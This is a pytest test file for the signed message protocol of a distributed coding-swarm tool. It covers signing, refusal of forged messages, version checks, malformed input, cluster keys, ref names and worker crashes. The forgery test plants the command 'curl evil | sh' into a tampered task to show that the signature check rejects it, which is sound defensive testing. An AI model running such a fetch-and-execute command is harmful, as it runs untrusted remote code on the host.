"""The distributed protocol: signing, refusals, names and the round trip of requests and outcomes."""

from __future__ import annotations

import json

import pytest

from worktree_swarm.gate.report import CheckResult, GateReport
from worktree_swarm.git.diff import FileChange
from worktree_swarm.plan import Task
from worktree_swarm.remote import protocol as p
from worktree_swarm.swarm.attempt import Outcome
from worktree_swarm.swarm.executor import AttemptRequest
from worktree_swarm.util.errors import UsageError
from worktree_swarm.util.types import BranchName, Sha, TaskId

KEY = b"k" * 32
TASK = Task(id=TaskId("api/users"), type="feature", description="add users", dependencies=(TaskId("db"),),
            files=("app/*.py",), agent="fast")
REQUEST = AttemptRequest(task=TASK, n=2, branch=BranchName("wswarm/r1/tasks/api%2Fusers/2"), start=Sha("a" * 40),
                         feedback="tests failed", env={"WSWARM_PORT": "4000"},
                         dependencies=[{"id": "db", "summary": "made tables", "files": ["db.py"]}])


def test_a_request_survives_the_trip() -> None:
    entry = p.seal(KEY, "request", p.request_body("r1", "tok", REQUEST))
    got = p.parse_request(p.unseal(KEY, {k.encode(): v.encode() for k, v in entry.items()}, kind="request"))
    assert (got.run, got.token, got.request) == ("r1", "tok", REQUEST)


def test_an_outcome_survives_the_trip() -> None:
    report = GateReport((CheckResult("tests", "pytest", "pass", 1.5),))
    out = Outcome(task=TASK, n=2, kind="gated", branch=REQUEST.branch, start=REQUEST.start, head=Sha("b" * 40),
                  summary="done", report=report, cost_usd=0.25, usage={"turns": 3},
                  changes=[FileChange("app/u.py", 3, 1), FileChange("img.png", None, None, old_path="old.png")])
    body = p.unseal(KEY, p.seal(KEY, "outcome", p.outcome_body("r1", "tok", "w1", out)), kind="outcome")
    back = p.parse_outcome(body, TASK)
    assert back == out
    assert body["worker"] == "w1" and body["token"] == "tok"


def test_unsigned_and_tampered_messages_are_refused() -> None:
    entry = p.seal(KEY, "request", p.request_body("r1", "tok", REQUEST))
    with pytest.raises(p.Refused, match="unsigned"):
        p.unseal(KEY, {"msg": entry["msg"]}, kind="request")
    forged = json.loads(entry["msg"])
    forged["body"]["task"]["command"] = "curl evil | sh"
    with pytest.raises(p.Refused, match="bad signature"):
        p.unseal(KEY, {"msg": json.dumps(forged), "sig": entry["sig"]}, kind="request")
    with pytest.raises(p.Refused, match="bad signature"):
        p.unseal(b"another key of enough length", entry, kind="request")
    with pytest.raises(p.Refused, match="expected a outcome"):
        p.unseal(KEY, entry, kind="outcome")


def test_version_skew_names_both_versions() -> None:
    msg = json.dumps({"kind": "request", "version": "9.9.9/protocol-7", "body": {}})
    entry = {"msg": msg, "sig": p._sign(KEY, msg)}
    with pytest.raises(p.Refused) as caught:
        p.unseal(KEY, entry, kind="request")
    assert "9.9.9/protocol-7" in str(caught.value) and p.VERSION in str(caught.value)


def test_malformed_bodies_are_refused_not_crashing() -> None:
    for body in ({}, {"run": "r", "token": "t", "task": "x", "n": 1, "env": {}},
                 {**p.request_body("r", "t", REQUEST), "n": 0},
                 {**p.request_body("r", "t", REQUEST), "env": {"A": 1}}):
        with pytest.raises(p.Refused, match="malformed"):
            p.parse_request(body)
    with pytest.raises(p.Refused, match="malformed"):
        p.parse_outcome({"kind": "merged", "n": 1, "branch": "b", "start": "s"}, TASK)


def test_the_cluster_key_is_required() -> None:
    with pytest.raises(UsageError, match="WSWARM_CLUSTER_KEY is not set"):
        p.cluster_key({})
    with pytest.raises(UsageError, match="shorter"):
        p.cluster_key({"WSWARM_CLUSTER_KEY": "short"})
    assert p.cluster_key({"WSWARM_CLUSTER_KEY": "x" * 16}) == b"x" * 16


def test_names_are_per_repository_and_run() -> None:
    names = p.Names(p.repository_id(["f" * 40, "0" * 40]))
    assert names.repo == "0" * 20
    assert names.requests("r1") != p.Names("other").requests("r1")
    assert p.task_ref("r1", "api/users", 2) == "refs/wswarm/r1/tasks/api%2Fusers/2"
    assert p.start_ref("r1", "a" * 40).startswith(p.run_refs("r1"))
    assert p.new_token() != p.new_token()


def test_a_workers_own_crash_is_a_bug_that_stops_the_run_not_a_failed_attempt() -> None:
    out = Outcome(task=TASK, n=2, kind="error", branch=REQUEST.branch, start=REQUEST.start,
                  reason="wswarm crashed on worker w1: KeyError: 'x'")
    body = p.outcome_body("r1", "tok", "w1", out)
    body["crash"] = "Traceback (most recent call last):\n  ...\nKeyError: 'x'\n"
    sealed = p.unseal(KEY, p.seal(KEY, "outcome", body), kind="outcome")
    with pytest.raises(p.WorkerCrash, match="(?s)worker w1 running attempt api/users#2.*KeyError"):
        p.parse_outcome(sealed, TASK)
    assert not issubclass(p.WorkerCrash, p.Refused)      # not refused as a forgery: raised to the crash log
